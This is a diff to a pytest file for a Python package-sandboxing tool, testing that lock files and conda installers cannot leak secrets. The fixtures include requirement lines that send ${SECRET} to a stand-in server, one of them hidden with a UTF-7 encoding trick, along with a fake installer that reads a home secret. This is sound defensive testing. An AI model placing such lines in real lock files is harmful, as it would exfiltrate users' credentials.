@@ -2,16 +2,19 @@
 
 import base64
 import hashlib
+import os
+import shutil
 import tarfile
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from tiny_git import write
 
 from locatable.errors import CannotTryError
 from locatable.proof.environment import build_environment
-from locatable.proof.lock_files import HashedLock
+from locatable.proof.lock_files import CondaLock, HashedLock, find_lock
 from locatable.proof.sandbox import Sandbox, active_variables, allowed_limits, hidden_folders
 
 HARM = "import pathlib; pathlib.Path({home!r}, 'harm').write_text('done')\n"
@@ -127,6 +130,32 @@ def test_a_wheel_is_compiled_all_the_same(build, wheel):
     assert list(environment.glob("lib/python*/site-packages/__pycache__/harm.*.pyc"))
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url http://127.0.0.1:9/${SECRET}",
+        "--find-links \\\n  http://127.0.0.1:9/${SECRET}",
+        "harm @ http://127.0.0.1:9/${SECRET}/harm-1.0-py3-none-any.whl --hash=sha256:00",
+        "# coding: utf-7\n--index-url http://127.0.0.1:9/+ACQ-{SECRET}",
+        "-r more.txt",
+        "--constraint=more.txt",
+        "-r http://127.0.0.1:9/more.txt",
+    ],
+)
+def test_no_variable_of_the_environment_goes_to_a_server_that_a_lock_names(line, tmp_path):
+    (tmp_path / "requirements.lock").write_text(f"{line}\n")
+    (tmp_path / "more.txt").write_text("-r requirements.lock\n-f http://127.0.0.1:9/${SECRET}\n")
+    with pytest.raises(CannotTryError, match=r"your environment \(\$\{\.\.\.\}\)|includes more\.txt, which"):
+        next(iter(HashedLock().steps(tmp_path, tmp_path / "env")))
+
+
+def test_servers_that_a_lock_names_are_announced(tmp_path):
+    lock = "--extra-index-url https://me:secret@wheels.example/cpu # http://a comment\na==1\n"
+    (tmp_path / "requirements.lock").write_text(lock)
+    named = find_lock(tmp_path, [])
+    assert named.source == "wheels of requirements.lock from the package index, https://wheels.example"
+
+
 def test_a_source_package_is_not_built_unless_that_is_allowed(build, source, home):
     with pytest.raises(CannotTryError, match=r"from wheels alone .*--allow-build.*: .*harm"):
         build(source)
@@ -154,3 +183,51 @@ def test_a_package_of_conda_sees_no_home_when_its_environment_becomes_active(tmp
     sandbox = Sandbox(tmp_path / "work", environment / "bin", tmp_path / "project", hidden, limits)
     assert active_variables(sandbox)["MADE"] == "here"
     assert not (home / "harm").exists()
+
+
+# In place of what installs conda-lock.yml: it makes an environment of one package, where it sees no secret.
+CONDA = """\
+#!{python}
+for prefix; do case $before in --prefix) break;; esac; before=$prefix; done
+mkdir -p "$prefix/conda-meta"
+cat {home}/secret && exit 1
+echo '{{"name": "a", "version": "1", "files": []}}' > "$prefix/conda-meta/a-1-0.json"
+"""
+
+
+def in_the_home(home: Path) -> str:
+    """A program in a folder of the PATH."""
+    write(home, {"bin/micromamba": CONDA.format(python="/bin/sh", home=home)})
+    return str(home / "bin")
+
+
+def from_the_working_folder(home: Path) -> str:
+    """The same, where the PATH has a relative folder."""
+    return os.path.relpath(in_the_home(home))
+
+
+def in_an_environment(home: Path) -> str:
+    """A program that the Python of another environment runs, which is in the home, too."""
+    (home / "python/bin").mkdir(parents=True)
+    shutil.copy("/bin/sh", home / "python/bin/python3")
+    write(home, {"env/pyvenv.cfg": "", "env/bin/conda": "#!/bin/sh\n"})
+    (home / "env/bin/python").symlink_to(home / "python/bin/python3")
+    write(home, {"env/bin/conda-lock": CONDA.format(python=home / "env/bin/python", home=home)})
+    return str(home / "env/bin")
+
+
+@pytest.mark.parametrize("installed", [in_the_home, from_the_working_folder, in_an_environment])
+def test_an_installer_in_the_home_runs_and_sees_nothing_else_of_it(installed, home, tmp_path, monkeypatch):
+    if not allowed_limits()[0]:
+        pytest.skip("bubblewrap is not installed, or not allowed")
+    write(home, {"secret": "secret"})
+    folder = installed(home)
+    for program in home.rglob("bin/*"):
+        program.chmod(0o755)
+    monkeypatch.setenv("PATH", folder, prepend=":")
+    write(tmp_path, {"project/conda-lock.yml": ""})
+    work, project = tmp_path / "work", tmp_path / "project"
+    work.mkdir()
+    sandbox = Sandbox(work, work / "env/bin", project, hidden_folders(project, project), allowed_limits()[0])
+    build_environment(CondaLock(allow_build=True), project, work / "env", sandbox)
+    assert (work / "env/conda-meta/a-1-0.json").is_file()
